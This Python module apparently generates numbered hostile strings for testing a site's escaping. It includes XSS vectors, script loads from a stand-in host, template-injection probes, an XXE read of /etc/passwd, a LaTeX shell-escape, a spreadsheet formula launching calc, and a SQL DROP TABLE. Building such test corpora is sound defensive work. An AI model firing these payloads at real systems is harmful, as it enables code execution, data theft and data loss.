"""Hostile strings, each with a number: `hostile_strings(seed)` makes as many as are needed.

A string that is not escaped somewhere calls the function `alarm`, opens a dialog, asks the host
`hostile.test`, asks for a file that does not exist, or shows the result of a calculation.
"""

import html
from collections.abc import Callable, Iterator
from itertools import count
from random import Random
from urllib.parse import quote

HOST = "hostile.test"
MAX_LENGTH = 1900  # characters; fields have at most 2000
PRODUCT = "1343433"  # of a calculation in a template
SECRET = "THE-SNIPPET-WAS-READ"  # in a file of the project that no page includes
FAMILIES: dict[str, tuple[str, ...]] = {
    "html": (
        "<script>{js}</script>",
        "<ScRiPt src=//{host}/{n}.js></sCrIpT>",
        "<script/x>{js}</script\t>",
        "<img src=x{n} onerror={js}>",
        "<img/src=x{n}/onerror={js}//",
        "<img src=//{host}/{n}.png>",
        "<svg onload={js}>",
        "<svg><script>{js}</script></svg>",
        "<svg><a xlink:href=javascript:{js}><text x=9 y=9>x",
        "<svg><animate onbegin={js} attributeName=x dur=1s>",
        "<svg><set attributeName=href to=javascript:{js}>",
        "<svg><use href='data:image/svg+xml,<svg id=a onload={js}/>#a'>",
        "<math><mtext><table><mglyph><style><img src=x{n} onerror={js}>",
        "<math href=javascript:{js}>x</math>",
        "<body onload={js}>",
        "<body/onpageshow={js}>",
        "<input autofocus onfocus={js}>",
        "<details open ontoggle={js}>",
        "<video><source onerror={js}>",
        "<video poster=//{host}/{n}.png>",
        "<audio src=//{host}/{n}.ogg autoplay onerror={js}>",
        "<iframe src=javascript:parent.{js}></iframe>",
        "<iframe srcdoc='<script>parent.{js}</script>'>",
        "<object data=//{host}/{n}></object>",
        "<embed src=//{host}/{n}>",
        "<link rel=stylesheet href=//{host}/{n}.css>",
        "<link rel=preload as=image href=//{host}/{n}.png>",
        "<base href=//{host}/{n}/>",
        "<meta http-equiv=refresh content='0;url=//{host}/{n}'>",
        "<form action=//{host}/{n}><button autofocus onfocus={js}>x",
        "<isindex action=javascript:{js} type=image>",
        "<style>@import '//{host}/{n}.css';</style>",
        "<style>*{{background:url(//{host}/{n})}}</style>",
        "<p style='background:url(//{host}/{n})' onmouseover={js}>x",
        "<marquee onstart={js}>x",
        "<template><script>{js}</script></template>",
        "<noscript><p title='</noscript><img src=x{n} onerror={js}>'>",
        "<xmp><p title='</xmp><img src=x{n} onerror={js}>'>",
        "<!--><img src=x{n} onerror={js}>-->",
        "<![CDATA[><img src=x{n} onerror={js}>]]>",
        "<?xml-stylesheet href='javascript:{js}'?>",
        "<a href=javascript:{js}>x</a>",
        "<a href=' java\tscript:{js}'>x</a>",
        "<a ping=//{host}/{n} href=#>x</a>",
        "<x contenteditable onblur={js}>x</x>",
        "<x id=x{n} tabindex=1 onfocusin={js}>x</x>",
        "<portal src=//{host}/{n}>",
        "<img srcset='//{host}/{n}.png 2x'>",
        "<picture><source srcset=//{host}/{n}.png><img></picture>",
        "<plaintext><img src=x{n} onerror={js}>",
    ),
    "attribute": (
        "x onload={js}",
        "x' onfocus='{js}' autofocus='",
        'x" onfocus="{js}" autofocus="',
        'x" style="background:url(//{host}/{n})',
        "x` onmouseover=`{js}",
        'x"/onpointerenter="{js}',
        'x"accesskey=x onclick="{js}"',
        "x srcdoc=<script>{js}</script>",
    ),
    "url": (
        "javascript:{js}",
        "JaVaScRiPt:{js}",
        "java&#10;script:{js}",
        "javascript&colon;{js}",
        "javascript://{host}/%0a{js}",
        "vbscript:{js}",
        "data:text/html,<script>{js}</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGFybSgxKTwvc2NyaXB0Pg=={n}",
        "//{host}/{n}",
        "\\\\{host}\\{n}",
        "https://{host}/{n}",
        "https://user:word@{host}/{n}",
        "../../../{n}",
        "%2e%2e%2f{n}",
        "file:///etc/passwd#{n}",
        "blob:https://{host}/{n}",
    ),
    "script": (
        "';{js};'",
        '";{js};"',
        "`;{js};`",
        "${{{js}}}",
        "\\';{js};//",
        "*/{js};/*",
        "</script><script>{js}</script>",
        '"}}</script><script>{js}</script>',
        '{{"@context":"x","a":"</script><!--<script>{js}"}}',
        "\u2028{js}\u2029{js}",
        "__proto__.{js}",
        "constructor{n}",
    ),
    "css": (
        "expression({js})",
        "}}*{{background:url(//{host}/{n})}}",
        "x;background:url(//{host}/{n})",
        "\\3c script>{js}",
    ),
    "template": (
        "{{{{ 7 * 191919 }}}} {n}",
        "{{% for a in (7 * 191919,) %}}{{{{ a }}}}{{% endfor %}} {n}",
        "{{{{ ''.__class__.__mro__[1].__subclasses__() }}}} {n}",
        "{{{{ config.theme.__init__.__globals__ }}}} {n}",
        "{{% include 'main.html' %}} {n}",
        "{{# comment {n}",
        "{{% raw %}}{n}",
        "${{7*191919}} {n}",
        "<%= 7*191919 %> {n}",
        "#{{7*191919}} {n}",
        "[[{n}]]",
        "[[u-net|<img src=x{n} onerror={js}>]]",
        "<!-- papers: organs=x view=table --> {n}",
        "<!-- paper-atlas: end --><script>{js}</script>",
    ),
    "markdown": (
        "[x](javascript:{js})",
        "[x](<javascript:{js}>)",
        "[x](&#106;avascript:{js})",
        "[x](data:text/html,<script>{js}</script>)",
        "![x](//{host}/{n}.png)",
        '![x](x{n} "onerror={js}")',
        '[x](https://e.org/ "x" onmouseover="{js}")',
        "<javascript:{js}>",
        "<https://{host}/{n}>",
        "[a{n}]: javascript:{js}\n[x][a{n}]",
        "x{{: onclick={js} }}",
        "# x {{: onload={js} .x{n} }}",
        "[x](#){{: onmouseover={js} style=position:fixed }}",
        '--8<-- "secret.txt" {n}',
        '\n--8<-- "secret.txt"\n\n{n}',
        "```{n}\n<script>{js}</script>\n```",
        "`` ` ``<script>{js}</script>",
        "<div markdown>\n<script>{js}</script>\n</div>",
        "*[x]: <script>{js}</script>\nx",
        "[^{n}]\n\n[^{n}]: <script>{js}</script>",
        "| a |\n| - |\n| <script>{js}</script> |",
        '!!! note "<script>{js}</script>"\n    x',
        "\\<script>{js}\\</script>",
        ":material-x: :{n}: <i class=x onclick={js}>",
    ),
    "maths": (
        "\\(\\href{{javascript:{js}}}{{x}}\\)",
        "$$\\unicode{{<img src=x{n} onerror={js}>}}$$",
        "\\(\\style{{background:url(//{host}/{n})}}{{x}}\\)",
        "$</span><script>{js}</script>$",
        "\\[\\require{{html}}\\class{{x{n}}}{{x}}\\]",
    ),
    "exports": (
        "\\input{{/etc/passwd}} {n}",
        "\\write18{{touch {n}}}",
        "}}, note = {{{n}",
        "@article{{x{n}, title = {{x}} }}",
        "{{{{{n}",
        "\\",
        "% {n}",
        "=cmd|' /C calc'!A{n}",
        "+1+cmd|'{n}'!A0",
        "-2+3+{n}",
        "@SUM({n})",
        '"\n=1+{n}',
        '",{n},"',
        "x\r\nER  - \r\nTY  - JOUR\r\nTI  - {n}",
        "x\nER  - \nTY  - {n}",
        "TY  - {n}",
        "]]></title><script>{js}</script>",
        "&{n};<!ENTITY x SYSTEM 'file:///etc/passwd'>",
        "ctx_ver=Z39.88-2004&rft.genre=x&rft.{n}='><script>{js}</script>",
        "'); DROP TABLE papers; -- {n}",
    ),
    "unicode": (
        "\u202e{n}<script>{js}</script>",
        "\u2066{n}\u200b",
        "\ufeff{n}",
        "\x00{n}",
        "\x1b[2J{n}",
        "\x85{n}\x0c",
        "\ud83d{n}",
        "\udc80{n}",
        "\ufffe{n}",
        "ﬁ＜script＞{js}＜/script＞",
        "e\u0301\u0327{n}",
        "İıſK{n}",
        "\U000e0041{n}",
        "🙂👨‍👩‍👧{n}",
        "بحث {n} שלום",
        "\u3000{n}\u00a0",
    ),
    "long": ("{long}{n}", "{long}<img src=x{n} onerror={js}>", "{words}{n}", "{nested}{n}"),
}
_BEFORE = (
    *("", "", "", "x", "'>", '">', "'>\">", "-->", "]]>", "</title>", "</textarea>", "</style>"),
    *(
        "</script>",
        "</noscript>",
        "</template>",
        "</a>",
        "</h1>",
        "</article>",
        "</svg>",
        "</main>",
    ),
    *("</summary>", "\\", "`", "&quot;>", "%22%3E", "{: ", "*", "[", "](", "| ", "<", "&", "a\n\n"),
)
_AFTER = (
    "",
    "",
    "",
    "",
    "<!--",
    "//",
    "'",
    '"',
    "`",
    " x",
    "\\",
    "]",
    "}",
    "&",
    "<",
    "\n\nx",
    "*/",
)


def _as_entities(text: str) -> str:
    return "".join(f"&#x{ord(sign):x};" if sign in "<>\"'&:(" else sign for sign in text)


def _as_escapes(text: str) -> str:
    return "".join(f"\\u{ord(sign):04x}" if sign in "<>\"'" else sign for sign in text)


_ENCODINGS: tuple[Callable[[str], str], ...] = (
    *(lambda text: text,) * 12,
    html.escape,
    lambda text: html.escape(html.escape(text)),
    _as_entities,
    _as_escapes,
    lambda text: quote(text.encode("utf-8", "replace")),
    str.upper,
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace("<", "<\t"),
)


def hostile_strings(seed: object, family: str = "") -> Iterator[str]:
    """Yield different hostile strings without end, of one family or of all."""
    random = Random(f"{seed} {family}")
    families = [FAMILIES[family]] if family else [*FAMILIES.values()]
    templates = [template for templates in families for template in templates]
    for number in count(100_000):
        yield _hostile_string(random, random.choice(templates), str(number))


def _without_middle(text: str) -> str:
    half = MAX_LENGTH // 2
    return text if len(text) <= MAX_LENGTH else text[:half] + text[-half:]


def _hostile_string(random: Random, template: str, number: str) -> str:
    values = {"js": f"alarm({number})", "n": number, "host": HOST}
    many = {"long": "a" * 1900, "words": "word " * 350, "nested": "<b>" * 500}
    encode = random.choice(_ENCODINGS)
    text = encode(template.format(**values, **many))
    text = f"{random.choice(_BEFORE)}{_without_middle(text)}{random.choice(_AFTER)}"
    return text if number in text else f"{text}{number}"
